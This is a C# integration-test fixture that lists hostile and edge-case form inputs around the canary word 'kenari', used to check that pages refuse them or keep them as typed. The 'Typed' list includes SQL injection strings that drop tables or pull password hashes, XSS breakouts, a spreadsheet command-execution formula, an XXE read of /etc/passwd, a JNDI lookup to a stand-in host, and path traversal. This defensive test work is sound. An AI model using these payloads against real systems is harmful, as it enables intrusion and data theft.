namespace BpjsBjb.IntegrationTests.Forms;

/// <summary>What people, scripts and other programs put into fields. Whatever would be markup names an element or attribute of the canary.</summary>
public static class HostileText
{
    public const string Canary = "kenari";

    /// <summary>Text a keyboard or a clipboard can make: a page must take it for what it is, and refuse it or keep it as typed.</summary>
    public static readonly IReadOnlyList<string> Typed =
    [
        "", " ", "\u00a0", "\t", "\r\n", "-", ".", "0", "-0", "-1", "+1", "00000000000000000000", "9223372036854775808", "-9223372036854775809",
        "99999999999999999999999999999999", "1e309", "NaN", "Infinity", "-Infinity", "0x7FFFFFFF", "1.000.000,50", "1,000,000.50", "1_000", "½", "²",
        "3171001003850001", "３１７１００１００３８５０００１", "٣١٧١٠٠١٠٠٣٨٥٠٠٠١", "3,17E+15", "0000000000000000", "3171003102850001",
        "00-00-0000", "31-02-2026", "29-02-2027", "01-01-0001", "31-12-9999", "2026-11-10", "10/11/2026", "01-01-10000", "10-11-26",
        "true", "false", "null", "undefined", "on", "True", "{}", "[]", "99", "-99", "None", "Everything",
        "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{0192aaaa-0000-7000-8000-000000000031}",
        "kenari'; drop table people; --", "kenari' or '1'='1", "kenari\\'); select pg_sleep(3); --", "kenari%' union select password_hash from users --", "%", "_", "\\",
        "%ff", "%00", "%3Ckenari%3E", "<kenari>", "<kenari/onload=kenari()>", "\"><kenari>", "' onfocus='kenari()' autofocus='", "\" onfocus=\"kenari()", "</textarea><kenari>", "</title><kenari>",
        "javascript:kenari()", "<!--<kenari>", "<svg><kenari xlink:href=x>", "&lt;kenari&gt;", "&#60;kenari&#62;", "{{kenari}}", "${kenari}", "#{kenari}", "@kenari", "@(kenari)",
        "=kenari()", "+kenari", "-kenari", "@SUM(kenari)", "\tkenari=1", "=cmd|' /C kenari'!A0", "=HYPERLINK(\"http://kenari.test\",\"x\")",
        "{\"kenari\":1}", "[\"kenari\",", "\"kenari\"", "\\u003ckenari\\u003e", "<?xml version=\"1.0\"?><!DOCTYPE kenari [<!ENTITY k SYSTEM \"file:///etc/passwd\">]><kenari>&k;</kenari>",
        "${jndi:ldap://kenari.test/a}", "../../../etc/passwd", "..\\..\\kenari", "C:\\kenari", "/dev/null", "kenari.test", "//kenari.test", "https://kenari.test/",
        "\u202ekenari", "\u2066kenari\u2069", "ke\u200dnari", "kenari\u200b", "\ufeffkenari", "Ñandú Kenari", "e\u0301kenari", "H. Kenari, S.Pd.", "Ma'ruf Kenari", "O\u2019Kenari",
        "شهاب كناري", "金丝雀", "🐤🐤🐤", "👨‍👩‍👧‍👦", "ﷺ", "T\u0336\u0321\u0322k\u0323\u0324enari", "kenari@kenari.test", "\"kenari\"@kenari.test", "kenari@", "+62 812-2045-7719", "0812", "tel:0812",
        new('9', 40), new('a', 300), new('<', 5_000), string.Concat(Enumerable.Repeat("kenari ", 2_000)), new('\u0301', 2_000), string.Concat(Enumerable.Repeat("🐤", 3_000)),
    ];

    /// <summary>Percent-encoded bytes that no keyboard makes: every page must refuse them.</summary>
    public static readonly IReadOnlyList<string> Broken =
    [
        "%00", "kenari%00", "%01", "%1b%5b31m", "%0b", "%ff", "%c3%28", "%c0%af", "%ed%a0%80", "%f4%90%80%80", "kenari%fe", "%ef%bf%bd", "100%", "%zz",
    ];

    /// <summary>What must be in no answer: markup that was typed, standing there as markup.</summary>
    public static readonly IReadOnlyList<string> Alive = ["<kenari", "onfocus='kenari", "onfocus=\"kenari", "href=\"javascript:kenari", "{{kenari}}</", "<svg><kenari"];
}
